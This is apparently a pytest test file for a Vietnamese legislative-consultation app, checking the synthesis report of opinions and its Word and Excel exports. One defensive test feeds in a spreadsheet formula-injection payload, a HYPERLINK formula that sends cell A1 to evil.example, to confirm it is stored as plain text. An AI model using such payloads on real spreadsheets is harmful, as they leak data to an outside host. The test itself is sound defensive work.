"""The synthesis report (Bản tổng hợp, giải trình, tiếp thu ý kiến góp ý): its data, and the Word
and Excel files read back and compared with the decisions."""
from __future__ import annotations

import io
import re
from datetime import datetime

import openpyxl
import pytest
from docx import Document
from docx.enum.section import WD_ORIENT
from docx.oxml.ns import qn
from flask_babel import force_locale, gettext, ngettext

from consult import decisions, synthesis, synthesis_docx
from consult.domain import DECISION_OUTCOMES, RESPONDENT_TYPES
from consult.extensions import db
from tests.consult.decision_factories import comment, drafter, letter, organisation
from tests.consult.decision_factories import comments as make_comments
from tests.factories import login, make_consultation

CAMPAIGN = "Đề nghị bỏ mức trần 30% khi chia thu nhập theo vốn góp."


@pytest.fixture()
def decided(app):
    """A consultation with letters from a ministry, a province and an association, citizens'
    comments (a campaign of three among them), a no-comment letter, some decisions."""
    consultation = make_consultation()
    finance = letter(consultation, organisation("BTC", name="Bộ Tài chính"),
                     [(None, "Rà soát thuật ngữ."), ("dieu-3-khoan-1", CAMPAIGN)], number="123/BTC-PC")
    lao_cai = letter(consultation, organisation("UBND-10", "province", "Ủy ban nhân dân tỉnh Lào Cai"),
                     [("dieu-3-khoan-1", "Đề nghị giữ nguyên.")], number="45/UBND-KT")
    association = letter(consultation, organisation("VCCI", "association", "Liên đoàn Thương mại và Công nghiệp Việt Nam"),
                         [("dieu-4", "Bổ sung quyền của thành viên.")], number="7/VCCI-PC")
    letter(consultation, organisation("UBND-31", "province", "Ủy ban nhân dân thành phố Hải Phòng"),
           number="815/UBND-KT", no_comment=True)
    campaign = [comment(consultation, "dieu-3-khoan-1", CAMPAIGN) for _ in range(3)]
    enterprise = comment(consultation, "dieu-3", CAMPAIGN, respondent_type="enterprise")
    general = comment(consultation, None, "Luật cần ngắn gọn hơn.")
    later = comment(consultation, "dieu-1", "Nên có chương về tổ hợp tác.")
    team = drafter()
    decisions.decide([finance.opinions[1], lao_cai.opinions[0], *campaign, enterprise], "explained",
                     "Giữ mức trần 30%.\nHợp tác xã huy động vốn theo Điều 12.", team)
    decisions.decide([finance.opinions[0]], "accepted", "", team)
    db.session.commit()
    return {"consultation": consultation, "general": general, "later": later, "association": association}


def test_the_report_data_follows_the_decisions(decided):
    with force_locale("vi"):
        report = synthesis.build_report(decided["consultation"])
        explained, accepted = str(DECISION_OUTCOMES["explained"]), str(DECISION_OUTCOMES["accepted"])
        undecided, general = gettext("Not yet decided"), gettext("General opinions")
        assert report.received == {"ministries": 2, "provinces": 1, "organisations": 1, "citizens": 6}
        assert (report.total, report.letters, report.undecided, report.complete) == (10, 4, 3, False)
        assert report.no_comment == [gettext("%(organisation)s (letter no. %(number)s)",
                                             organisation="Ủy ban nhân dân thành phố Hải Phòng",
                                             number="815/UBND-KT")]
        assert report.subtitle == gettext("on the draft %(title)s", title="Luật Hợp tác xã (sửa đổi)")
    rows = [(r.number, r.provisions, r.outcome, r.answer_label, r.reason, r.opinions) for r in report.rows]
    assert rows == [
        (1, general, "accepted", accepted, "", 1),
        (2, general, None, undecided, "", 1),
        (3, "Điều 1", None, undecided, "", 1),
        (4, "Điều 3; Khoản 1 Điều 3", "explained", explained,
         "Giữ mức trần 30%.\nHợp tác xã huy động vốn theo Điều 12.", 6),
        (5, "Điều 4", None, undecided, "", 1),
    ]
    campaign = report.rows[3]
    with force_locale("vi"):
        letter_of = lambda name, number: gettext("%(organisation)s (letter no. %(number)s)",  # noqa: E731
                                                 organisation=name, number=number)
        people = lambda n, who: ngettext("%(num)s opinion (%(who)s)", "%(num)s opinions (%(who)s)", n,  # noqa: E731
                                         who=str(RESPONDENT_TYPES[who]))
        assert campaign.sources == "; ".join([
            letter_of("Bộ Tài chính", "123/BTC-PC"), letter_of("Ủy ban nhân dân tỉnh Lào Cai", "45/UBND-KT"),
            people(3, "citizen"), people(1, "enterprise")])
    assert campaign.content == f"- {CAMPAIGN} (× 5)\n- Đề nghị giữ nguyên."


def test_a_fully_decided_consultation_says_so(app):
    consultation = make_consultation()
    decisions.decide([comment(consultation, "dieu-2")], "accepted", "", None)
    db.session.commit()
    with force_locale("vi"):
        report = synthesis.build_report(consultation)
        assert report.complete and synthesis.summary_lines(report)[-1] == gettext("Every opinion has been decided.")
        assert synthesis.summary_lines(report)[2] == gettext("Bodies that agreed without comment: none.")


def test_the_word_file_holds_the_same_table(decided):
    with force_locale("vi"):
        report = synthesis.build_report(decided["consultation"])
        headings = synthesis.column_headings()
        document = Document(io.BytesIO(synthesis_docx.to_docx(report)))
    section = document.sections[0]
    assert section.orientation == WD_ORIENT.LANDSCAPE and section.page_width > section.page_height
    normal = document.styles["Normal"]
    assert normal.font.name == "Times New Roman" and normal.font.size.pt == 13
    assert report.title in [p.text for p in document.paragraphs]
    assert any(p.text == report.subtitle for p in document.paragraphs)
    table = document.tables[1]  # between the letterhead and the sign-off
    header = table.rows[0]
    assert [cell.text for cell in header.cells] == headings
    assert header._tr.trPr.find(qn("w:tblHeader")) is not None  # repeated on every page
    body = [[cell.text for cell in row.cells] for row in table.rows[1:]]
    assert body == [[str(r.number), r.provisions, r.sources, r.content, r.answer] for r in report.rows]


def test_the_excel_file_holds_the_same_table(decided):
    with force_locale("vi"):
        report = synthesis.build_report(decided["consultation"])
        headings = synthesis.column_headings()
        sheet = openpyxl.load_workbook(io.BytesIO(synthesis.to_xlsx(report))).active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0][0] == report.title and values[1][0] == report.subtitle
    start = values.index(tuple(headings)) + 1
    assert values[start:] == [(r.number, r.provisions, r.sources, r.content, r.answer) for r in report.rows]
    assert sheet.freeze_panes == f"A{start + 1}"


def test_downloads_are_in_vietnamese_with_ascii_names(client, decided):
    login(client, drafter("second@example.vn"))
    client.get("/?lang=en")  # the interface in English: the official document stays Vietnamese
    slug = decided["consultation"].slug
    page = client.get(f"/quan-tri/xu-ly/{slug}").text
    assert f'href="/quan-tri/xu-ly/{slug}/bao-cao"' in page and "3 opinions are still undecided" in page
    word = client.get(f"/quan-tri/xu-ly/{slug}/bao-cao.docx")
    assert word.status_code == 200 and word.mimetype.endswith("wordprocessingml.document")
    name = re.search(r'filename="([^"]+)"', word.headers["Content-Disposition"]).group(1)
    assert re.fullmatch(r"bao-cao-tong-hop-luat-htx-\d{8}\.docx", name)
    with force_locale("vi"):
        expected = synthesis.column_headings()
    assert [c.text for c in Document(io.BytesIO(word.data)).tables[1].rows[0].cells] == expected
    excel = client.get(f"/quan-tri/xu-ly/{slug}/bao-cao.xlsx")
    assert excel.status_code == 200 and excel.data[:2] == b"PK"
    assert client.get(f"/quan-tri/xu-ly/{slug}/bao-cao.pdf").status_code == 404


def test_report_filename_is_ascii_and_dated_in_vietnam(app):
    consultation = make_consultation("luat-htx")
    consultation.slug = "Luật-HTX 2022"
    late_utc = datetime(2024, 5, 1, 18, 30)  # 01:30 on 2 May in Vietnam
    assert synthesis.report_filename(consultation, "docx", late_utc) == "bao-cao-tong-hop-luat-htx-2022-20240502.docx"
    db.session.rollback()


def xlsx_rows(consultation) -> list[tuple]:
    with force_locale("vi"):
        data = synthesis.to_xlsx(synthesis.build_report(consultation))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


def test_excel_keeps_opinions_as_text_never_formulas_or_links(app):
    consultation = make_consultation()
    formula = comment(consultation, "dieu-3", '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")')
    link = comment(consultation, "dieu-4", "https://thuvienphapluat.vn/" + "a" * 3000 + " nên tham khảo")
    decisions.decide([formula], "not_accepted", "Không liên quan.", drafter())
    db.session.commit()
    with force_locale("vi"):
        data = synthesis.to_xlsx(synthesis.build_report(consultation))
    sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)}
    assert cells[formula.body].data_type == "s"  # a string, not "f"ormula
    assert link.body in cells and cells[link.body].hyperlink is None
    row_of_link = next(row for row in xlsx_rows(consultation) if link.body in row)
    with force_locale("vi"):
        assert row_of_link[-1] == gettext("Not yet decided")  # the answer column is still written


def test_a_cell_over_excels_limit_is_cut_with_a_note_and_the_answer_is_kept(app):
    consultation = make_consultation()
    many = [comment(consultation, "dieu-3", f"Ý kiến số {i}: " + "đề nghị sửa quy định này. " * 20) for i in range(80)]
    decisions.decide(many, "explained", "Đã giải trình tại cuộc họp.", drafter())
    db.session.commit()
    row = next(row for row in xlsx_rows(consultation) if row[-1] and "Đã giải trình tại cuộc họp." in row[-1])
    assert len(row[3]) <= synthesis.EXCEL_CELL_LIMIT and row[3].endswith(")")
    with force_locale("vi"):
        assert row[3].endswith(gettext("… (cut: the whole text is in the Word file)"))


def test_counts_are_written_as_vietnamese_numbers_and_texts_composed(app):
    import unicodedata

    consultation = make_consultation()
    consultation.title = unicodedata.normalize("NFD", "Dự thảo Luật Hợp tác xã (sửa đổi)")
    body = unicodedata.normalize("NFD", "Đề nghị giữ nguyên khoản này.")
    copies = make_comments(consultation, "dieu-3", body, 1200)
    decisions.decide(copies, "accepted", "", drafter())
    db.session.commit()
    with force_locale("vi"):
        report = synthesis.build_report(consultation)
        assert report.subtitle == gettext("on the draft %(title)s", title="Luật Hợp tác xã (sửa đổi)")
        row = report.rows[0]
        assert "1.200" in row.sources
        assert row.content == unicodedata.normalize("NFC", body) + " (× 1.200)"


def test_opinions_on_older_versions_sort_where_their_provision_stands_now(app):
    """A clause comment on version 1, then version 2 adds clauses to an earlier article, then a
    comment on an earlier clause of the same article: draft order is the order of version 2."""
    from consult import drafts
    from tests.factories import SMALL_LAW

    consultation = make_consultation()
    comment(consultation, "dieu-3-khoan-2", "Về khoản 2 Điều 3, góp trên dự thảo lần 1.")
    longer = SMALL_LAW.replace("2. Cơ quan, tổ chức, cá nhân có liên quan.",
                               "2. Cơ quan.\n3. Tổ chức.\n4. Cá nhân.\n5. Khác.\n6. Khác nữa.")
    assert longer != SMALL_LAW
    version = drafts.create_version(consultation.draft, longer, "lan-2.txt")
    drafts.publish_version(version)
    db.session.commit()
    comment(consultation, "dieu-3-khoan-1", "Về khoản 1 Điều 3, góp trên dự thảo lần 2.")
    with force_locale("vi"):
        rows = synthesis.build_report(consultation).rows
    assert [row.content[:19] for row in rows] == ["Về khoản 1 Điều 3, ", "Về khoản 2 Điều 3, "]


def test_the_header_says_how_many_bodies_on_the_roster_answered(decided):
    from datetime import timedelta

    from consult.models import Organisation, utcnow
    from consult.submissions.models import RosterEntry

    consultation = decided["consultation"]
    by_code = {o.code: o for o in db.session.query(Organisation)}
    silent = [organisation("BTP", name="Bộ Tư pháp"), organisation("UBND-01", "province", "Ủy ban nhân dân thành phố Hà Nội")]
    for body in [by_code["BTC"], by_code["UBND-10"], by_code["UBND-31"], *silent]:
        db.session.add(RosterEntry(consultation=consultation, organisation=body, deadline=utcnow() + timedelta(days=9)))
    db.session.commit()
    with force_locale("vi"):
        report = synthesis.build_report(consultation)
        # Bộ Tài chính answered, Bộ Tư pháp not; Lào Cai and Hải Phòng ("no comment") answered,
        # Hà Nội not; VCCI answered but was not on the roster, so it is not counted here.
        assert report.roster == {"ministries": (1, 2), "provinces": (2, 3)}
        line = gettext("Bodies consulted that answered: %(parts)s.",
                       parts=f"{gettext('ministries and government agencies')} 1/2; {gettext('provinces')} 2/3")
        assert line in synthesis.summary_lines(report)


def test_without_a_roster_the_header_says_nothing_about_it(decided):
    with force_locale("vi"):
        report = synthesis.build_report(decided["consultation"])
    assert report.roster == {}
